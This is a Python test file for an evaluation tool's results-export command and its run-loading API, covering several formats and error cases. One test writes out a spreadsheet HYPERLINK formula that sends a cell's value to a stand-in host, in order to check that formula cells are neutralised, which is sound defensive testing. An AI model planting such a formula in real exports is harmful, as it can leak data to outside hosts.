"""Results where users work (issue 10 #1): `assay export` and `assay.load_run` give rows whose
numbers are those of results.jsonl, summary.json and the judge archive, as CSV, JSONL,
Parquet and pandas, with the records' meta as columns."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from sklearn.metrics import roc_auc_score

import assay
from assay.cli import main
from assay.judge.archive import iter_archive
from tests.judge.helpers import write_manifest, write_questions
from tests.verify.bench_fixtures import verify_only_records, write_jsonl


def _bench_run(tmp_path: Path) -> Path:
    records = verify_only_records(18)
    for i, record in enumerate(records):
        record["meta"] = {"system": ["alpha", "beta"][i // 6 % 2], "domain": {"field": "geo"}}
    data = write_jsonl(tmp_path / "data.jsonl", records)
    run = tmp_path / "bench"
    base = ["bench", "run", "--data", str(data), "--pattern", "entailment", "--out_dir", str(run)]
    flags = ["--verifier", "lexical", "--no-cache", "--no-progress", "--no-report"]
    assert main([*base, *flags, "--n-resamples", "50"]) == 0
    return run


def _judge_run(tmp_path: Path) -> Path:
    questions = write_questions(tmp_path / "q.jsonl")
    manifest = write_manifest(tmp_path / "manifest.jsonl", ["stub/a", "stub/b"])
    run = tmp_path / "judge"
    command = ["judge", "run", "--questions", str(questions), "--outputs", str(manifest)]
    assert main([*command, "--judge", "stub/j", "--mode", "cross", "--out", str(run)]) == 0
    assert main(["judge", "analyze", str(run), "--resamples", "50", "--no-plots"]) == 0
    return run


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_bench_csv_and_parquet_hold_the_runs_numbers(tmp_path: Path) -> None:
    run = _bench_run(tmp_path)
    assert main(["export", str(run), "--out", str(tmp_path / "rows.csv")]) == 0
    assert main(["export", str(run), "--format", "parquet", "--out", str(tmp_path / "r.pq")]) == 0
    results = {
        line["id"]: line
        for line in map(json.loads, (run / "results.jsonl").read_text().splitlines())
    }
    rows = _csv_rows(tmp_path / "rows.csv")
    assert [r["id"] for r in rows] == list(results)
    for row in rows:
        result = results[row["id"]]
        assert float(row["p_error"]) == result["verifier_score"]
        assert row["gold_error"] == str(result["gold_error"]) and row["label_source"] == "dataset"
        assert int(row["claims"]) == len(result["claim_checks"])
        assert row["meta.system"] == result["meta"]["system"] and row["meta.domain.field"] == "geo"
    import pandas as pd

    frame = pd.read_parquet(tmp_path / "r.pq")
    assert list(frame["id"]) == list(results) and list(frame["p_error"]) == [
        r["verifier_score"] for r in results.values()
    ]
    summary = json.loads((run / "summary.json").read_text())["detection"]["metrics"]
    auroc = roc_auc_score(frame["gold_error"].astype(int), frame["p_error"])
    assert auroc == pytest.approx(summary["auroc"]["value"])
    assert frame["gold_error"].mean() == pytest.approx(summary["positive_rate"]["value"])
    flagged = frame["flagged"] & frame["gold_error"]
    assert flagged.sum() / frame["gold_error"].sum() == pytest.approx(summary["recall"]["value"])


def test_claim_rows_and_the_python_api(tmp_path: Path) -> None:
    run = _bench_run(tmp_path)
    loaded = assay.load_run(run)
    assert isinstance(loaded, assay.BenchRun)  # the class to narrow the union by
    assert loaded.kind == "bench" and len(loaded.results) == 18
    claims = loaded.to_pandas(claims=True)
    assert len(claims) == sum(len(r.claim_checks) for r in loaded.results)
    assert {"claim", "label", "p_supported", "check_ms", "meta.system"} <= set(claims.columns)
    assert (
        main(
            [
                "export",
                str(run),
                "--claims",
                "--format",
                "jsonl",
                "--out",
                str(tmp_path / "c.jsonl"),
            ]
        )
        == 0
    )
    lines = (tmp_path / "c.jsonl").read_text().splitlines()
    assert len(lines) == len(claims) and json.loads(lines[0])["claim"] == claims["claim"][0]


def test_claim_rows_carry_the_words_the_learned_checker_did_not_find(tmp_path: Path) -> None:
    records = verify_only_records(2)
    records[0]["answer"] = "Paris, the capital of France, was founded by Venetian sailors in 1066."
    data = write_jsonl(tmp_path / "data.jsonl", records)
    run = tmp_path / "bench"
    base = ["bench", "run", "--data", str(data), "--pattern", "entailment", "--out_dir", str(run)]
    flags = ["--verifier", "learned", "--no-cache", "--no-progress", "--no-report"]
    assert main([*base, *flags, "--n-resamples", "20"]) == 0
    assert main(["export", str(run), "--claims", "--out", str(tmp_path / "claims.csv")]) == 0
    rows = _csv_rows(tmp_path / "claims.csv")
    missing = [row["missing_words"] for row in rows if row["id"] == "v0"]
    assert missing and "Venetian" in missing[0].split("; ") and "1066" in missing[0].split("; ")
    assert all(row["missing_words"] == "" for row in rows if row["id"] == "v1")


def test_judge_rows_one_per_evaluation(tmp_path: Path) -> None:
    run = _judge_run(tmp_path)
    loaded = assay.load_run(run)
    assert isinstance(loaded, assay.JudgeRun)
    assert loaded.kind == "judge"
    frame = loaded.to_pandas()
    assert len(frame) == len(list(iter_archive(run))) == 8
    counts = json.loads((run / "summary.json").read_text())["counts"]
    finals = frame[frame["final"]]
    assert len(finals) == counts["work_items"] and int(finals["valid"].sum()) == counts["valid"]
    valid = frame[frame["valid"]]
    assert set(valid["verdict"]) <= {"PASS", "PARTIAL", "FAIL"}
    assert (
        valid["overall_score"] == valid[[c for c in frame if c.startswith("score.")]].sum(axis=1)
    ).all()


def test_export_to_standard_output_and_bad_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = _bench_run(tmp_path)
    capsys.readouterr()
    assert main(["export", str(run)]) == 0
    out = capsys.readouterr().out
    assert out.startswith("id,cluster,pattern") and len(out.splitlines()) == 19
    assert main(["export", str(tmp_path)]) == 2
    assert "not a run directory" in capsys.readouterr().err
    assert main(["export", str(run), "--format", "parquet"]) == 2  # binary needs --out


def test_a_missing_extra_is_one_clear_error(tmp_path: Path) -> None:
    run = _bench_run(tmp_path)
    probe = (
        "import sys; sys.modules['pandas'] = None\n"  # as if the extra were not installed
        "from assay.cli import main\n"
        f"sys.exit(main(['export', {str(run)!r}, '--format', 'parquet', '--out', 'x.pq']))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, cwd=tmp_path, check=False
    )
    assert done.returncode == 2 and "assay[export]" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_sharded_judge_archive_exports_to_the_per_file_layout(tmp_path: Path) -> None:
    run = _judge_run(tmp_path)
    assert not list(run.rglob("*.json*")) or list(run.rglob("part-*.jsonl"))
    out = tmp_path / "files"
    assert main(["export", str(run), "--format", "files", "--out", str(out)]) == 0
    files = sorted(p for p in out.rglob("*.json") if "_evaluations" in str(p))
    assert len(files) == 8
    assert [i.record for i in iter_archive(out)] == [i.record for i in iter_archive(run)]
    assert main(["judge", "validate", str(out)]) == 0
    assert json.loads((out / "protocol.json").read_text())["layout"] == "files"
    assert main(["export", str(run), "--format", "files", "--out", str(out)]) == 2  # not empty


def test_the_format_follows_the_out_suffix_unless_given(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`--out q.parquet` without --format wrote CSV text into q.parquet, exit 0."""
    import pandas as pd

    run = _judge_run(tmp_path)
    assert main(["export", str(run), "--out", str(tmp_path / "q.parquet")]) == 0
    assert len(pd.read_parquet(tmp_path / "q.parquet")) == 8
    assert main(["export", str(run), "--out", str(tmp_path / "q.JSONL")]) == 0
    lines = (tmp_path / "q.JSONL").read_text().splitlines()
    assert len(lines) == 8 and json.loads(lines[0])["judge_model"] == "stub/j"
    assert main(["export", str(run), "--out", str(tmp_path / "q.txt")]) == 0  # no named format
    assert len(_csv_rows(tmp_path / "q.txt")) == 8
    capsys.readouterr()

    clash = tmp_path / "clash.parquet"
    assert main(["export", str(run), "--format", "csv", "--out", str(clash)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: --format csv contradicts --out {clash}, whose suffix names ")
    assert "Traceback" not in err and not clash.exists()
    assert main(["export", str(run), "--format", "jsonl", "--out", str(tmp_path / "r.pq")]) == 0


def test_load_run_names_a_damaged_summary(tmp_path: Path) -> None:
    from assay.errors import InputError

    run = _bench_run(tmp_path)
    (run / "summary.json").write_text('{"counts": {"results": 18,')
    with pytest.raises(InputError, match=r"summary\.json: cannot read summary\.json: .* line 1"):
        assay.load_run(run)


def test_load_run_refuses_a_run_still_being_written(tmp_path: Path) -> None:
    from assay.errors import RunError
    from assay.runs import RunDirLock

    run = _bench_run(tmp_path)
    with RunDirLock(run), pytest.raises(RunError, match="being written by another assay process"):
        assay.load_run(run)
    loaded = assay.load_run(run)  # once the writer is done
    assert isinstance(loaded, assay.BenchRun) and len(loaded.results) == 18


def test_load_run_warns_of_archived_evaluations_it_cannot_read(tmp_path: Path) -> None:
    run = _judge_run(tmp_path)
    shard = sorted(run.glob("valid_evaluations/**/part-*.jsonl"))[0]
    lines = shard.read_text(encoding="utf-8").splitlines(keepends=True)
    shard.write_text(lines[0][:40] + "\n" + "".join(lines[1:]), encoding="utf-8")
    with pytest.warns(UserWarning, match=rf"1 archived .*{shard.name}:1"):
        loaded = assay.load_run(run)
    assert isinstance(loaded, assay.JudgeRun)
    assert len(loaded.records) == 7 and len(loaded.unreadable) == 1


def test_spreadsheet_csv_writes_would_be_formulas_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A question or answer starting with = + - @ is a formula to a spreadsheet (it can fetch
    a URL or run a command); --spreadsheet writes such a cell as text, numbers as they were.
    Without it the values are exact, for pandas and comparison with results.jsonl."""
    formula = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
    records = verify_only_records(6)
    records[0]["question"] = formula
    records[1]["answer"] = "@SUM(1+1) is what the page says [cite:p1]"
    data = write_jsonl(tmp_path / "data.jsonl", records)
    run = tmp_path / "run"
    args = ["bench", "run", "--data", str(data), "--pattern", "entailment", "--out_dir", str(run)]
    assert main([*args, "--verifier", "lexical", "--no-progress", "--no-report"]) == 0
    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
    assert main(["export", str(run), "--out", str(exact)]) == 0
    assert main(["export", str(run), "--out", str(safe), "--spreadsheet"]) == 0
    exact_rows, safe_rows = _csv_rows(exact), _csv_rows(safe)
    assert exact_rows[0]["question"] == formula  # exact by default
    by_id = {row["id"]: row for row in safe_rows}
    assert by_id["v0"]["question"] == "'" + formula
    assert by_id["v1"]["selected_answer"].startswith("'@SUM(1+1)")
    cells = [value for row in safe_rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    for before, after in zip(exact_rows, safe_rows, strict=True):  # every other cell unchanged
        changed = {k for k in before if before[k] != after[k]}
        assert all(after[k] == "'" + before[k] for k in changed)
        assert all(not before[k][:1].isdigit() for k in changed)
    capsys.readouterr()
    code = main(["export", str(run), "--out", str(tmp_path / "x.jsonl"), "--spreadsheet"])
    assert code == 2 and "--spreadsheet applies to CSV" in capsys.readouterr().err


def test_a_run_stopped_before_its_first_result_loads_as_a_run_with_none(tmp_path: Path) -> None:
    """A bench run killed after writing run.json and before results.jsonl was 'not a run
    directory'; a judge run in the same state (protocol.json, no evaluation) loads with no
    records, and so does the bench run now. Both states come from real sessions: a batch
    session writes every call to a file and finishes nothing."""
    batch = ["--base-url", "http://127.0.0.1:9/v1", "--executor", "batch"]
    batch += ["--cache-path", str(tmp_path / "c.sqlite")]
    data = write_jsonl(tmp_path / "data.jsonl", verify_only_records(2))
    bench = tmp_path / "bench"
    command = ["bench", "run", "--data", str(data), "--pattern", "entailment"]
    command += ["--verifier", "openai/m", "--out_dir", str(bench), "--no-progress"]
    assert main([*command, *batch, "--batch-dir", str(tmp_path / "bb")]) == 3
    for written_later in ("results.jsonl", "summary.json"):
        (bench / written_later).unlink()
    judge = tmp_path / "judge"
    questions = write_questions(tmp_path / "q.jsonl")
    manifest = write_manifest(tmp_path / "manifest.jsonl", ["stub/a"])
    command = ["judge", "run", "--questions", str(questions), "--outputs", str(manifest)]
    command += ["--judge", "openai/j", "--out", str(judge)]
    assert main([*command, *batch, "--batch-dir", str(tmp_path / "jb")]) == 3
    assert not list(iter_archive(judge))

    loaded = assay.load_run(bench)
    assert isinstance(loaded, assay.BenchRun) and loaded.results == [] and loaded.summary == {}
    assert isinstance(assay.load_run(judge), assay.JudgeRun)
    for run in (bench, judge):
        assert main(["export", str(run), "--out", str(tmp_path / f"{run.name}.csv")]) == 0
        assert _csv_rows(tmp_path / f"{run.name}.csv") == []


def test_a_directory_of_another_kind_of_run_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    questions = write_questions(tmp_path / "q.jsonl")
    out = tmp_path / "outputs"
    assert (
        main(["generate", "--questions", str(questions), "--model", "stub/a", "--out", str(out)])
        == 0
    )
    capsys.readouterr()
    assert main(["export", str(out)]) == 2
    assert capsys.readouterr().err.splitlines()[0] == (
        f"error: {out}: holds a 'generate' run (run.json); load_run and export read bench, "
        "judge and instruction-robustness runs"
    )
